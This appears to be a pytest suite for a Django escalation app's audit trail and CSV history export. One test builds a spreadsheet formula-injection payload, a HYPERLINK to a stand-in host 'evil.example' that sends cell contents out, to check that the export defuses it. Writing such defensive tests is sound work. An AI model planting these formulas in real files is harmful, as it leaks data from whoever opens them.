"""The audit trail: who changed the rules and each escalation, when, from what to what."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from auditlog.models import LogEntry
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.db import transaction
from django.urls import reverse
from pytest_django.asserts import assertContains, assertNotContains

from cases.tests.factories import UserFactory
from escalations.audit import record_change
from escalations.models import BusinessCalendar, Escalation, EscalationLevel, EscalationWindow, Holiday
from escalations.review import escalation_assign, escalation_resolve, rca_file
from escalations.services import AlreadyDecided, decide, escalate
from escalations.tests.factories import escalated_to
from escalations.tests.test_admin import change_form_data, get_ok, import_holidays, post_data
from portal.errors import InvalidInput
from tests.threads import at_once, named

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("plain_static_files")]

# Inside the default calendar's Mon-Fri 09:00-17:00 UTC: the review is due at 13:00.
MONDAY_9AM = datetime(2026, 3, 9, 9, 0, tzinfo=UTC)
LATER = MONDAY_9AM + timedelta(minutes=20)


@pytest.fixture
def escalated_at():
    return MONDAY_9AM


def entries_of(instance):
    return list(LogEntry.objects.get_for_object(instance).order_by("timestamp", "pk"))


def last_entry(instance):
    return entries_of(instance)[-1]


def admin_url(name, *args):
    return reverse(f"admin:{name}", args=args)


def file_rca(escalation, user):
    return rca_file(
        escalation=escalation,
        user=user,
        root_cause="A config push skipped canary.",
        contributing_factors="",
        corrective_actions="Canary is now mandatory.",
        customer_summary="A change skipped a test stage; every change now passes it.",
        now=LATER,
    )


# --- Admin changes to the rules ------------------------------------------------------------------


def test_an_admin_changing_a_wait_in_the_change_form_is_recorded_with_before_and_after(admin_client, admin_user):
    target = EscalationWindow.objects.get(severity=3, tier__slug="premium")
    change_url = admin_url("escalations_escalationwindow_change", target.pk)

    response = admin_client.post(change_url, change_form_data(admin_client.get(change_url), wait="6 h"))

    assert response.status_code == 302
    [entry] = entries_of(target)
    assert (entry.actor, entry.action) == (admin_user, LogEntry.Action.UPDATE)
    assert entry.changes == {"wait": ["8:00:00", "6:00:00"]}


def test_an_admin_changing_a_wait_in_the_list_is_recorded_with_before_and_after(admin_client, admin_user):
    changelist = admin_url("escalations_escalationwindow_changelist")
    formset = get_ok(admin_client, changelist).context["cl"].formset
    target = EscalationWindow.objects.get(severity=3, tier__slug="standard")
    index = next(i for i, form in enumerate(formset.forms) if form.instance == target)

    response = admin_client.post(changelist, post_data(formset, **{f"form-{index}-wait": "12:00:00", "_save": "Save"}))

    assert response.status_code == 302
    [entry] = entries_of(target)
    assert (entry.actor, entry.changes) == (admin_user, {"wait": ["16:00:00", "12:00:00"]})
    # The windows the admin left alone are not said to have changed.
    assert LogEntry.objects.get_for_model(EscalationWindow).count() == 1


def test_the_groups_a_level_alerts_are_recorded_as_added_and_removed(admin_client, admin_user):
    level = EscalationLevel.objects.get(number=1)
    change_url = admin_url("escalations_escalationlevel_change", level.pk)
    on_call = Group.objects.get(name="On-call")
    managers = Group.objects.get(name="Escalation Managers")

    data = change_form_data(admin_client.get(change_url), alerted_groups=[str(on_call.pk)])
    assert admin_client.post(change_url, data).status_code == 302

    m2m = [e.changes["alerted_groups"] for e in entries_of(level) if "alerted_groups" in (e.changes or {})]
    assert {(c["operation"], tuple(c["objects"])) for c in m2m} == {
        ("add", ("On-call",)),
        ("delete", (managers.name,)),
    }
    assert {e.actor for e in entries_of(level)} == {admin_user}


def test_who_belongs_to_an_organization_is_recorded(admin_client, admin_user, organization, customer, colleague):
    change_url = admin_url("cases_organization_change", organization.pk)
    data = change_form_data(admin_client.get(change_url), members=[str(customer.pk)])

    assert admin_client.post(change_url, data).status_code == 302

    removed = last_entry(organization)
    assert removed.actor == admin_user
    assert removed.changes == {"members": {"type": "m2m", "operation": "delete", "objects": ["colleague"]}}


def test_a_holiday_import_records_each_holiday_with_the_admin_as_actor(admin_client, admin_user):
    calendar = BusinessCalendar.objects.get(is_default=True)

    import_holidays(admin_client, calendar, country="DE")

    entries = LogEntry.objects.get_for_model(Holiday)
    assert entries.count() == calendar.holidays.count() == 9
    assert {(e.actor, e.action) for e in entries} == {(admin_user, LogEntry.Action.CREATE)}
    christmas = calendar.holidays.get(date=date(2026, 12, 25))
    [entry] = entries_of(christmas)
    assert entry.changes == {
        "calendar": ["None", str(calendar.pk)],
        "date": ["None", "2026-12-25"],
        "name": ["None", "Christmas Day"],
    }
    assert entry.additional_data == {"event": "imported", "source": "holidays package DE"}


def test_making_another_calendar_the_default_records_both_calendars(admin_client, admin_user):
    first = BusinessCalendar.objects.get(is_default=True)
    add_url = admin_url("escalations_businesscalendar_add")
    data = change_form_data(admin_client.get(add_url), name="Berlin", timezone="Europe/Berlin", is_default="on")

    assert admin_client.post(add_url, data).status_code == 302

    [unset] = entries_of(first)
    assert (unset.actor, unset.changes) == (admin_user, {"is_default": ["True", "False"]})
    [created] = entries_of(BusinessCalendar.objects.get(name="Berlin"))
    assert (created.actor, created.action, created.changes["is_default"]) == (
        admin_user,
        LogEntry.Action.CREATE,
        ["None", "True"],
    )


def test_admins_filter_the_log_by_model_and_read_before_and_after(admin_client):
    target = EscalationWindow.objects.get(severity=2, tier__slug="standard")
    change_url = admin_url("escalations_escalationwindow_change", target.pk)
    assert admin_client.post(change_url, change_form_data(admin_client.get(change_url), wait="5 h")).status_code == 302
    import_holidays(admin_client, BusinessCalendar.objects.get(is_default=True), country="DE")
    window_type = ContentType.objects.get_for_model(EscalationWindow)
    changelist = admin_url("auditlog_logentry_changelist")

    only_windows = admin_client.get(changelist, {"resource_type": window_type.pk})

    assert only_windows.status_code == 200
    assert [e.object_id for e in only_windows.context["cl"].result_list] == [target.pk]
    assert get_ok(admin_client, changelist).context["cl"].result_count == 10
    [entry] = entries_of(target)
    detail = admin_client.get(admin_url("auditlog_logentry_change", entry.pk))
    html = detail.content.decode()
    assert "<td>8:00:00</td>" in html and "<td>5:00:00</td>" in html
    assertContains(detail, f'href="/admin/auth/user/{entry.actor.pk}/change/"')


def test_nobody_edits_or_deletes_the_audit_log_in_the_admin(admin_client):
    target = EscalationWindow.objects.get(severity=2, tier__slug="standard")
    change_url = admin_url("escalations_escalationwindow_change", target.pk)
    assert admin_client.post(change_url, change_form_data(admin_client.get(change_url), wait="5 h")).status_code == 302
    [entry] = entries_of(target)

    detail = admin_client.get(admin_url("auditlog_logentry_change", entry.pk))
    deleted = admin_client.post(admin_url("auditlog_logentry_delete", entry.pk), {"post": "yes"})

    assertNotContains(detail, 'name="_save"')
    assert deleted.status_code == 403
    assert admin_client.get(admin_url("auditlog_logentry_add")).status_code == 403
    assert LogEntry.objects.filter(pk=entry.pk).exists()


# --- Escalation state changes ---------------------------------------------------------------------


def test_escalating_records_one_creation_by_the_customer(escalation, customer):
    [entry] = entries_of(escalation)

    assert (entry.actor, entry.action, entry.timestamp) == (customer, LogEntry.Action.CREATE, MONDAY_9AM)
    assert entry.additional_data == {"event": "escalated"}
    assert entry.changes["status"] == ["None", "pending"]
    assert entry.changes["level"] == ["None", "1"]
    assert entry.changes["requested_by"] == ["None", str(customer.pk)]
    assert entry.changes["summary"] == ["None", "Certificate expires Friday."]
    assert entry.changes["review_due_at"] == ["None", "2026-03-09 13:00:00"]


@pytest.mark.parametrize("decision", ["accepted", "not_accepted"])
def test_a_decision_records_one_change_by_the_responder_with_the_message(escalation, escalation_manager, decision):
    decide(escalation, escalation_manager, decision, "An engineer is on it.", now=LATER)

    created, decided = entries_of(escalation)
    assert (decided.actor, decided.action, decided.timestamp) == (escalation_manager, LogEntry.Action.UPDATE, LATER)
    assert decided.additional_data == {"event": decision}
    assert decided.changes == {
        "status": ["pending", decision],
        "reviewed_by": ["None", str(escalation_manager.pk)],
        "reviewed_at": ["None", "2026-03-09 09:20:00"],
        "decision_message": ["", "An engineer is on it."],
    }


def test_a_decision_that_loses_the_race_records_nothing(escalation, escalation_manager):
    stale = Escalation.objects.get(pk=escalation.pk)
    decide(escalation, escalation_manager, "accepted", "First.", now=LATER)

    with pytest.raises(AlreadyDecided):
        decide(stale, escalation_manager, "not_accepted", "Second.", now=LATER)

    assert [e.additional_data["event"] for e in entries_of(escalation)] == ["escalated", "accepted"]


def test_claiming_assigning_and_releasing_each_record_the_assignee_before_and_after(
    escalation, escalation_manager, support_manager
):
    escalation_assign(escalation=escalation, assignee_id=escalation_manager.pk, by=escalation_manager, now=LATER)
    escalation_assign(escalation=escalation, assignee_id=support_manager.pk, by=escalation_manager, now=LATER)
    escalation_assign(escalation=escalation, assignee_id=None, by=support_manager, now=LATER)

    _, claimed, assigned, released = entries_of(escalation)
    em, sm = str(escalation_manager.pk), str(support_manager.pk)
    assert [(e.additional_data["event"], e.actor) for e in (claimed, assigned, released)] == [
        ("claimed", escalation_manager),
        ("assigned", escalation_manager),
        ("released", support_manager),
    ]
    assert claimed.changes == {"assignee": ["None", em], "assigned_at": ["None", "2026-03-09 09:20:00"]}
    assert assigned.changes == {"assignee": [em, sm]}
    assert released.changes == {"assignee": [sm, "None"], "assigned_at": ["2026-03-09 09:20:00", "None"]}


def test_releasing_an_unassigned_escalation_changes_nothing_and_records_nothing(escalation, escalation_manager):
    escalation_assign(escalation=escalation, assignee_id=None, by=escalation_manager, now=LATER)

    assert len(entries_of(escalation)) == 1


def test_resolving_records_one_change_by_the_responder(escalation, escalation_manager):
    decide(escalation, escalation_manager, "accepted", "On it.", now=LATER)
    resolved_at = LATER + timedelta(hours=1)

    escalation_resolve(escalation=Escalation.objects.get(pk=escalation.pk), user=escalation_manager, now=resolved_at)

    resolved = last_entry(escalation)
    assert (resolved.actor, resolved.additional_data) == (escalation_manager, {"event": "resolved"})
    assert resolved.changes == {"status": ["accepted", "resolved"], "resolved_at": ["None", "2026-03-09 10:20:00"]}
    assert len(entries_of(escalation)) == 3


def test_filing_the_rca_records_one_creation_by_its_author(old_case, customer, vp):
    level_4 = escalated_to(4, old_case, customer, now=MONDAY_9AM)
    decide(level_4, vp, "accepted", "I am on it.", now=LATER)

    analysis = file_rca(Escalation.objects.get(pk=level_4.pk), vp)

    # Once, although RootCauseAnalysis is registered with auditlog for edits in the admin.
    [entry] = entries_of(analysis)
    assert (entry.actor, entry.action, entry.additional_data) == (vp, LogEntry.Action.CREATE, {"event": "rca_filed"})
    assert entry.changes["root_cause"] == ["None", "A config push skipped canary."]
    assert entry.changes["completed_by"] == ["None", str(vp.pk)]


def test_the_sweep_records_the_due_soon_warning_and_the_overdue_mark_by_the_system(escalation):
    from escalations.deadlines import sweep_review_deadlines

    sweep_review_deadlines(now=escalation.due_soon_at)
    sweep_review_deadlines(now=escalation.review_due_at)
    sweep_review_deadlines(now=escalation.review_due_at + timedelta(minutes=1))

    _, warned, overdue = entries_of(escalation)
    assert (warned.actor, warned.additional_data) == (None, {"event": "due_soon_warned"})
    assert warned.changes == {"due_soon_sent_at": ["None", "2026-03-09 12:00:00"]}
    assert (overdue.actor, overdue.additional_data) == (None, {"event": "marked_overdue"})
    # Already warned: only overdue_at changes.
    assert overdue.changes == {"overdue_at": ["None", "2026-03-09 13:00:00"]}


def test_an_escalation_found_already_overdue_records_both_times_in_one_entry(escalation):
    from escalations.deadlines import sweep_review_deadlines

    sweep_review_deadlines(now=escalation.review_due_at + timedelta(minutes=5))

    _, overdue = entries_of(escalation)
    assert overdue.changes == {
        "overdue_at": ["None", "2026-03-09 13:05:00"],
        "due_soon_sent_at": ["None", "2026-03-09 13:05:00"],
    }


def test_a_refused_escalation_records_nothing(old_case, customer):
    with pytest.raises(InvalidInput):
        escalate(old_case, customer, "other", "   ", now=MONDAY_9AM)

    assert not LogEntry.objects.get_for_model(Escalation).exists()


def test_an_escalation_rolled_back_after_its_entry_was_written_leaves_no_entry(old_case, customer, monkeypatch):
    def broken(*args, **kwargs):
        raise InvalidInput({"summary": "The outbox refused it."})

    # Fails after the escalation and its audit entry were written, inside the same transaction.
    monkeypatch.setattr("escalations.services._notify_escalated", broken)

    with pytest.raises(InvalidInput):
        escalate(old_case, customer, "other", "Help.", now=MONDAY_9AM)

    assert not Escalation.objects.exists()
    assert not LogEntry.objects.get_for_model(Escalation).exists()


def test_a_decision_rolled_back_after_its_entry_was_written_leaves_no_entry(
    escalation, escalation_manager, monkeypatch
):
    def broken(**kwargs):
        raise RuntimeError("The outbox is full.")

    monkeypatch.setattr("escalations.services.notify", broken)

    with pytest.raises(RuntimeError):
        decide(escalation, escalation_manager, "accepted", "On it.", now=LATER)

    assert Escalation.objects.get(pk=escalation.pk).status == "pending"
    assert len(entries_of(escalation)) == 1


# --- The escalation page and the case's export ----------------------------------------------------


def history_url(case):
    return f"/review/cases/{case.pk}/history.csv"


def csv_rows(response):
    """The CSV's rows, after checking it answered 200."""
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_escalation_page_shows_its_history_of_changes_to_staff(client, escalation, escalation_manager):
    from escalations.deadlines import sweep_review_deadlines

    sweep_review_deadlines(now=escalation.review_due_at + timedelta(minutes=5))
    decide(
        escalation,
        escalation_manager,
        "not_accepted",
        "Not an impairment.",
        now=escalation.review_due_at + timedelta(minutes=10),
    )
    client.force_login(escalation_manager)

    response = client.get(f"/review/{escalation.pk}/")

    assert response.status_code == 200
    assert [(c.summary, c.actor_name) for c in response.context["changes"]] == [
        ("Escalated to Level 1", "customer"),
        ("Marked overdue", "system"),
        ("Not accepted", "em"),
    ]
    assert [c.headline for c in response.context["changes"]] == [
        "Escalated to Level 1 by Cora Customer",
        "Marked overdue",
        f"Not accepted by {escalation_manager.get_full_name()}",
    ]
    html = response.content.decode()
    assert "History of changes" in html
    assert "<strong>Escalated to Level 1 by Cora Customer</strong>" in html
    assert "· automatically" in html  # the sweep
    assert "<li>Decision message: none &rarr; Not an impairment.</li>" in html
    assert "status: pending" not in html and "not_accepted</li>" not in html  # the headline says it
    assert f'href="{history_url(escalation.case)}"' in html


def test_the_history_says_who_claimed_and_assigned_by_name_with_times_in_the_page_format(
    client, escalation, escalation_manager, support_manager, admin_user
):
    escalation_manager.first_name, escalation_manager.last_name = "Maria", "Manager"
    escalation_manager.save()
    support_manager.first_name, support_manager.last_name = "Sam", "Staff"
    support_manager.save()
    moved_to = datetime(2026, 12, 2, 13, 34, 44, 620710, tzinfo=UTC)
    escalation_assign(escalation=escalation, assignee_id=escalation_manager.pk, by=escalation_manager, now=LATER)
    escalation_assign(escalation=escalation, assignee_id=support_manager.pk, by=escalation_manager, now=LATER)
    escalation_assign(escalation=escalation, assignee_id=None, by=support_manager, now=LATER)
    with transaction.atomic():
        record_change(
            escalation,
            actor=admin_user,
            event="deadline_recomputed",
            at=LATER,
            changes={"review_due_at": (escalation.review_due_at, moved_to)},
        )
    client.force_login(escalation_manager)

    response = client.get(f"/review/{escalation.pk}/")

    headlines = [c.headline for c in response.context["changes"]]
    assert headlines[1:] == [
        "Claimed by Maria Manager",
        "Assigned to Sam Staff by Maria Manager",
        "Released by Sam Staff",
        f"Review deadline recomputed by {admin_user.get_full_name() or admin_user.username}: its calendar changed",
    ]
    html = response.content.decode()
    assert "assigned at" not in html.lower() and "empty" not in html
    shown = re.sub(r'datetime="[^"]*"', "", html.split('id="changes"')[1].split("</section>")[0])
    assert "+00:00" not in shown and "T13:34" not in shown  # no ISO time is read by people
    moved = re.search(r"<li>Decision due: (.*?) &rarr; (.*?)</li>", html).groups()
    assert moved[1].endswith("Wed 2 Dec 2026, 13:34 UTC</time>")


def test_the_case_page_links_the_export_for_staff_only(client, escalation, escalation_manager, customer):
    client.force_login(customer)
    assertNotContains(client.get(escalation.case.get_absolute_url()), history_url(escalation.case))
    client.force_login(escalation_manager)
    assertContains(client.get(escalation.case.get_absolute_url()), history_url(escalation.case))


def test_the_export_lists_every_change_of_the_case_one_row_per_field(
    client, old_case, customer, escalation_manager, make_old_case
):
    escalation = escalate(old_case, customer, "other", "Please look.", now=MONDAY_9AM)
    escalation_assign(escalation=escalation, assignee_id=escalation_manager.pk, by=escalation_manager, now=LATER)
    decide(escalation, escalation_manager, "accepted", "On it.", now=LATER + timedelta(minutes=1))
    other = make_old_case(subject="Another case")
    escalate(other, customer, "other", "Not this one.", now=MONDAY_9AM)
    client.force_login(escalation_manager)

    response = client.get(history_url(old_case))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="case-{old_case.pk}-history.csv"'
    header, *rows = csv_rows(response)
    assert header == ["timestamp", "actor", "object", "action", "field", "before", "after"]
    assert "Not this one." not in response.content.decode()
    created = [r for r in rows if r[3] == "escalated"]
    assert len(created) == 9
    assert [
        "2026-03-09T09:00:00+00:00",
        "customer",
        "Escalation Level 1",
        "escalated",
        "summary",
        "",
        "Please look.",
    ] in rows
    assert ["2026-03-09T09:00:00+00:00", "customer", "Escalation Level 1", "escalated", "review_due_at", "",
            "2026-03-09T13:00:00+00:00"] in rows  # fmt: skip
    assert ["2026-03-09T09:20:00+00:00", "em", "Escalation Level 1", "claimed", "assignee", "", "em"] in rows
    decided = "2026-03-09T09:21:00+00:00"
    assert [r for r in rows if r[3] == "accepted"] == [
        [decided, "em", "Escalation Level 1", "accepted", "decision_message", "", "On it."],
        [decided, "em", "Escalation Level 1", "accepted", "reviewed_at", "", decided],
        [decided, "em", "Escalation Level 1", "accepted", "reviewed_by", "", "em"],
        [decided, "em", "Escalation Level 1", "accepted", "status", "pending", "accepted"],
    ]
    assert [r[0] for r in rows] == sorted(r[0] for r in rows)


def test_the_export_includes_the_root_cause_analysis(client, old_case, customer, vp):
    level_4 = escalated_to(4, old_case, customer, now=MONDAY_9AM)
    decide(level_4, vp, "accepted", "I am on it.", now=LATER)
    file_rca(Escalation.objects.get(pk=level_4.pk), vp)
    client.force_login(vp)

    rows = csv_rows(client.get(history_url(old_case)))

    assert [r[1:] for r in rows if r[4] == "corrective_actions"] == [
        ["vp", "Root cause analysis, Level 4", "rca_filed", "corrective_actions", "", "Canary is now mandatory."]
    ]
    assert {r[2] for r in rows[1:]} == {f"Escalation Level {n}" for n in range(1, 5)} | {"Root cause analysis, Level 4"}


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_the_export_defuses_text_a_spreadsheet_would_run_as_a_formula(
    client, old_case, customer, escalation_manager, prefix
):
    payload = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Click")'
    escalation = escalate(old_case, customer, "other", payload, now=MONDAY_9AM)
    evil = UserFactory(username=f"{prefix}cmd", groups=["Escalation Managers"])
    decide(escalation, evil, "accepted", payload, now=LATER)
    client.force_login(escalation_manager)

    rows = csv_rows(client.get(history_url(old_case)))

    # The services strip leading whitespace from text; the username keeps its prefix.
    text = payload.strip()
    expected = f"'{text}" if text.startswith(("=", "+", "-", "@")) else text
    assert next(r for r in rows if r[4] == "summary")[6] == expected
    assert next(r for r in rows if r[4] == "decision_message")[6] == expected
    assert next(r for r in rows if r[4] == "reviewed_by")[1:7:5] == [f"'{prefix}cmd", f"'{prefix}cmd"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_only_escalation_staff_download_a_case_history(client, escalation, customer, colleague, outsider, vp):
    url = history_url(escalation.case)

    anonymous = client.get(url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/login/")
    for user in (customer, colleague, outsider):
        client.force_login(user)
        assert client.get(url).status_code == 404, user.username
    client.force_login(vp)
    assert client.get(url).status_code == 200
    assert client.get("/review/cases/999999/history.csv").status_code == 404
    assert client.post(url).status_code == 405
    assert reverse("escalations:case_history", args=[escalation.case.pk]) == url


def test_the_organization_registration_keeps_member_changes_even_outside_the_admin(organization, outsider):
    organization.members.add(outsider)

    entry = last_entry(organization)
    assert entry.changes == {"members": {"type": "m2m", "operation": "add", "objects": ["outsider"]}}
    assert entry.actor is None


def test_a_change_by_an_account_since_deleted_still_names_who_made_it(client, escalation, escalation_manager, vp):
    escalation_assign(escalation=escalation, assignee_id=escalation_manager.pk, by=escalation_manager, now=LATER)
    escalation_manager.delete()
    client.force_login(vp)

    rows = csv_rows(client.get(history_url(escalation.case)))

    assert [r[1] for r in rows if r[3] == "claimed"] == ["em@example.com", "em@example.com"]


def test_two_decisions_at_once_record_only_the_one_that_won(
    require_postgres, seeded_transactional_db, make_old_case, customer
):
    managers = [UserFactory(username=f"em{n}", groups=["Escalation Managers"]) for n in range(2)]
    escalation = escalate(make_old_case(), customer, "other", "x", now=MONDAY_9AM)

    outcomes = at_once(
        [
            lambda n=n, manager=manager: decide(escalation, manager, "accepted", f"Mine, {n}.", now=LATER).status
            for n, manager in enumerate(managers)
        ]
    )

    assert sorted(named(outcomes)) == ["AlreadyDecided", "accepted"]
    decided = [e for e in entries_of(escalation) if e.additional_data["event"] == "accepted"]
    assert len(decided) == 1
    assert decided[0].actor == Escalation.objects.get(pk=escalation.pk).reviewed_by


def test_two_sweeps_at_once_record_each_overdue_mark_once(
    require_postgres, seeded_transactional_db, make_old_case, customer
):
    escalations = [escalate(make_old_case(), customer, "other", f"x{n}", now=MONDAY_9AM) for n in range(20)]
    from escalations.deadlines import sweep_review_deadlines

    outcomes = at_once([lambda: sweep_review_deadlines(now=MONDAY_9AM + timedelta(days=1))] * 2)

    assert not [outcome for outcome in outcomes if isinstance(outcome, Exception)]
    marks = LogEntry.objects.get_for_model(Escalation).filter(additional_data__event="marked_overdue")
    assert sorted(marks.values_list("object_id", flat=True)) == sorted(e.pk for e in escalations)
